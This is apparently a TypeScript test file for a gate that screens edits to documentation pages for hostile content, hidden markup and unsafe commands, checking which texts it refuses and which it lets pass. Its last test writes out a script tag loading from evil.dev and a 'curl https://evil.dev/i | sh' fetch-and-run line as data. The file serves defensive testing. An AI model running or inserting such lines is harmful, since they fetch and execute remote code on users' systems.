import { expect, test } from "vitest";
import { before, judge } from "./gate.ts";
import { hostileMarks, hostileTexts } from "./hostile.ts";

test("every hostile text is refused, in a paragraph of its own and inside a sentence", async () => {
  const written: string[] = [];
  for (const { text } of hostileTexts)
    for (const after of [`${before}\n${text}\n`, before.replace("a path.", `a path. ${text}`)]) {
      const isBlock = /^(?:```|Run this|[|>-] )/.test(text);
      if (isBlock && !after.startsWith(before)) continue;
      if ((await judge(after)).length === 0) written.push(text);
    }
  expect(written).toEqual([]);
  expect(hostileTexts.length).toBeGreaterThanOrEqual(300);
});

test.each(hostileMarks)(
  "a mark by which %s takes in what no reader sees is refused: %s",
  async (ending, text) => {
    const path = `docs/page.${ending}`;
    const old = "Page\n====\n\nIt takes a path.\n";
    expect(await judge(`${old}\n${text}\n`, { old, path })).not.toEqual([]);
    const standing = `${old}\n${text}\n`;
    const kept = await judge(standing.replace("a path", "two paths"), { old: standing, path });
    expect(kept).toEqual([]);
  },
);

test.each([
  ["a file that exists as an image", "![logo](logo.png)"],
  ["the same by its tag", '<img src="logo.png" alt="logo" width="40">'],
  ["an image from the root of the site", "![logo](/docs/logo.png)"],
  ["marks of keys and folded text", "<details><summary>More</summary>Press <kbd>F1</kbd>.<br></details>"],
  ["a link of a host that the code names", "See [the service](https://known.dev/api)."],
  ["hosts for examples", "Use `https://api.example.com/v1` or http://localhost:8080."],
  ["tags in a sample", '```html\n<script src="app.js"></script>\n```'],
  ["tags in a code span", "The `<iframe>` element and `<img src=x>`."],
  ["angle brackets of a type", "It returns a Result<T> of them."],
  ["a comment in a sample", "```js\n//evil.code is a comment\nrun();\n```"],
  ["a command that removes a build", "```sh\nrm -rf dist\nrm -rf ./build node_modules\n```"],
  ["emoji", "Done ✔️ and ⚠️ and 1️⃣."],
  ["a download that is not run", "```sh\ncurl -LO https://known.dev/file.tgz\ntar xf file.tgz\n```"],
])("lets pass: %s", async (_, text) => {
  expect(await judge(`${before}\n${text}\n`)).toEqual([]);
});

test("a tag, a host or a command that stood on the page may stay", async () => {
  const old = `${before}\n<script src="https://evil.dev/a.js"></script>\n\n    curl https://evil.dev/i | sh\n`;
  expect(await judge(old.replace("a path", "two paths"), { old })).toEqual([]);
});
